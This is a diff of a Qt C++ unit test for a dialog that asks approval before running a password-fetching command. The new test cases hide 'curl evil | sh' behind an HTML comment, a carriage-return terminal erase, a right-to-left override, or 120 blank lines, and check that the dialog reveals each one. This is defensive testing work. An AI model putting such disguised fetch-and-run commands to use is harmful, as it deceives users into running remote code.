@@ -7,7 +7,9 @@
 
 #include <QApplication>
 #include <QFileDialog>
+#include <QLabel>
 #include <QMessageBox>
+#include <QPlainTextEdit>
 #include <QPushButton>
 #include <QTest>
 #include <QTextBrowser>
@@ -106,20 +108,59 @@ TEST(QtUserInterfaceTest, MessageBoxesCarryTheTitleAndReturnTheButtonPressed)
               MessageAnswer::Cancel);
 }
 
-TEST(QtUserInterfaceTest, PasswordCommandRunsOnlyWhenRunIsPressed)
+TEST(QtUserInterfaceTest, PasswordCommandIsShownAsItWillRunAndRunsOnlyWhenRunIsPressed)
 {
+    std::string blankLines, shownBlankLines;
+    for (int i = 0; i < 120; ++i) {
+        blankLines += '\n';
+        shownBlankLines += "\u23CE\n";
+    }
+    const struct
+    {
+        std::string command;
+        std::string shown;
+        const char* lines;
+    } cases[] = {
+        // Rich text would show the first line only and run the second.
+        {"pass show mail/smtp # <b></b><!--\ncurl evil | sh",
+         "pass show mail/smtp # <b></b><!--\u23CE\ncurl evil | sh", "(2 lines)"},
+        // A terminal would show only what follows the carriage return and the erase.
+        {"curl evil | sh #\r\x1b[2Kpass show mail/smtp", "curl evil | sh #\\r\\x1b[2Kpass show mail/smtp",
+         "(1 line)"},
+        // A right-to-left override would show the rest backwards.
+        {"pass\tshow \xE2\x80\xAE"
+         "hs | live lruc",
+         "pass\\tshow \\u202ehs | live lruc", "(1 line)"},
+        // Blank lines that would push the rest, and the buttons, off the screen.
+        {"pass show mail/smtp" + blankLines + "curl evil | sh",
+         "pass show mail/smtp" + shownBlankLines + "curl evil | sh", "(121 lines)"},
+    };
+    const SecretDestination to{"smtp.example.org:587", "STARTTLS", "host"};
     CQtUserInterface ui;
-    OnNextModal<QMessageBox>([](QMessageBox* box) {
-        EXPECT_TRUE(box->text().contains("/games/war.tpf"));
-        EXPECT_EQ(box->informativeText(), "pass show mail");
-        box->findChild<QPushButton*>("runCommandButton")->click();
-    });
-    EXPECT_TRUE(ui.ApprovePasswordCommand("pass show mail", "/games/war.tpf"));
+    for (const auto& c : cases) {
+        OnNextModal<QDialog>([&](QDialog* dialog) {
+            const auto* box = dialog->findChild<QPlainTextEdit*>("commandBox");
+            ASSERT_NE(box, nullptr);
+            EXPECT_EQ(box->toPlainText().toStdString(), c.shown);
+            EXPECT_TRUE(box->isReadOnly());
+            EXPECT_TRUE(dialog->findChild<QLabel*>("commandLinesLabel")->text().contains(c.lines));
+            const QString question = dialog->findChild<QLabel*>("approveCommandLabel")->text();
+            EXPECT_TRUE(question.contains("/games/war.tpf")) << question.toStdString();
+            EXPECT_TRUE(question.contains("host at smtp.example.org:587 (STARTTLS)"))
+                << question.toStdString();
+            // Everything, the buttons included, fits a screen 1024 pixels high.
+            auto* run = dialog->findChild<QPushButton*>("runCommandButton");
+            EXPECT_LE(dialog->frameGeometry().height(), 1024);
+            EXPECT_LE(run->mapTo(dialog, QPoint(0, run->height())).y(), 1024);
+            run->click();
+        });
+        EXPECT_TRUE(ui.ApprovePasswordCommand(c.command, "/games/war.tpf", to)) << c.shown;
+    }
 
     // Enter and Escape both leave it unrun.
     for (const auto key : {Qt::Key_Return, Qt::Key_Escape}) {
-        OnNextModal<QMessageBox>([key](QMessageBox* box) { QTest::keyClick(box, key); });
-        EXPECT_FALSE(ui.ApprovePasswordCommand("pass show mail", "/games/war.tpf"));
+        OnNextModal<QDialog>([key](QDialog* dialog) { QTest::keyClick(dialog, key); });
+        EXPECT_FALSE(ui.ApprovePasswordCommand("pass show mail", "/games/war.tpf", to));
     }
 }
 
